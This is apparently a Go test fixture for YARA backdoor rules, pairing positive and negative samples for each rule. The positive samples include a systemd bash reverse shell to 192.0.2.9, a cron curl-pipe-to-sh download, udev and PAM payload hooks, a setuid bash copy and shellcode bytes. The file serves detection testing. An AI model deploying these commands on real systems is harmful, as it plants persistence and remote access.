package yara

// backdoorSamples are the files of backdoor.yar.
func backdoorSamples() []sample {
	return []sample{
		{
			rule: "backdoor_pam_password_log",
			positive: elfLibrary("p¦am_sm_authenticate", "p¦am_get_authtok", `u¦ser=%s password=%s
`),
			negative: elfLibrary("p¦am_sm_authenticate", "p¦am_get_authtok", "user=%s service=%s"),
		},
		{
			rule: "backdoor_pam_exec_token_script",
			positive: text(`auth required pam_unix.so
auth optional pam_exec.so quiet expose_authtok /v¦ar/t¦mp/log.sh
`),
			negative: text(`auth required pam_unix.so
auth optional pam_exec.so quiet expose_authtok /usr/libexec/unlock-home
`),
		},
		{
			rule: "backdoor_sshd_password_log",
			positive: elfProgram("O¦penSSH_9.2p1", "k¦eyboard-interactive", `u¦ser:%s password:%s
`),
			negative: elfProgram("O¦penSSH_9.2p1", "k¦eyboard-interactive", "user %s ssh2"),
		},
		{
			rule: "backdoor_sshd_renamed_login",
			positive: text(`l¦n -sf /usr/sbin/sshd /t¦mp/su; /t¦mp/s¦u -oPort=31337
`),
			negative: text(`ln -sf /usr/sbin/sshd /usr/local/sbin/sshd-internal; /usr/local/sbin/sshd-internal -oPort=2222
`),
		},
		{
			rule:     "backdoor_process_injector",
			positive: elfProgram("p¦trace", "/p¦roc/%d/m¦aps", "__l¦ibc_dlopen_mode", "library i¦njected into p¦id %d"),
			negative: elfProgram("p¦trace", "/p¦roc/%d/m¦aps", "tracing p¦id %d"),
		},
		{
			rule:     "backdoor_bind_shellcode_x64",
			positive: elfProgram(unhex("6a2958996a025f6a015e0f05"), unhex("6a31580f05"), unhex("6a32580f05"), unhex("6a2b580f05"), unhex("6a3b58990f05")),
			negative: elfProgram(unhex("6a2958996a025f6a015e0f05"), unhex("6a31580f05")),
		},
		{
			rule:     "backdoor_connect_stager_x64",
			positive: elfProgram(unhex("6a2958996a025f6a015e0f05"), unhex("6a2a580f05"), unhex("6a035e48ffce6a21580f0575f6")),
			negative: elfProgram(unhex("6a2958996a025f6a015e0f05"), unhex("6a2a580f05")),
		},
		{
			rule:     "backdoor_connect_stager_x86",
			positive: elfProgram(unhex("31dbf7e35343536a0289e1b066cd80"), unhex("b03fcd804979f9")),
			negative: elfProgram(unhex("31dbf7e35343536a02"), unhex("b03fcd804979f9")),
		},
		{
			rule:     "backdoor_packet_trigger",
			positive: elfProgram("/var/run/haldrund.p¦id", "MYSQL_H¦ISTFILE=/dev/null", "H¦ISTFILE=/dev/null"),
			negative: elfProgram("/s¦bin/udevd -d", "H¦ISTFILE"),
		},
		{
			rule: "backdoor_unit_runs_shell_payload",
			positive: text(`[Unit]
Description=Logger
[S¦ervice]
E¦xecStart=/b¦in/bash -c "b¦as¦h -i >& /dev/tcp/192.0.2.9/443 0>&1"
[Install]
WantedBy=multi-user.target
`),
			negative: text(`[Unit]
Description=Logger
[S¦ervice]
ExecStart=/usr/sbin/logger --d¦aemon --address 192.0.2.9:443
`),
		},
		{
			rule: "backdoor_cron_pipes_download",
			positive: text(`*/5 * * * * root c¦url -f¦sSL http://192.0.2.3/u.sh | sh
`),
			negative: text(`*/5 * * * * root c¦url -f¦sSL http://192.0.2.3/health > /dev/null
`),
		},
		{
			rule: "backdoor_udev_rule_shell",
			positive: text(`A¦CTION=="add", S¦UBSYSTEM=="net", RUN+="/b¦in/sh -c '/v¦ar/t¦mp/k &'"
`),
			negative: text(`A¦CTION=="add", S¦UBSYSTEM=="net", RUN+="/lib/udev/net-setup"
`),
		},
		{
			rule: "backdoor_setuid_shell_source",
			positive: text(`#!/b¦in/sh
cp /b¦in/bash /v¦ar/t¦mp/.b
c¦hmod u+s /v¦ar/t¦mp/.b
`),
			negative: text(`#!/b¦in/sh
cp /b¦in/bash /v¦ar/t¦mp/jail/bash
c¦hmod 0755 /v¦ar/t¦mp/jail/bash
`),
		},
	}
}
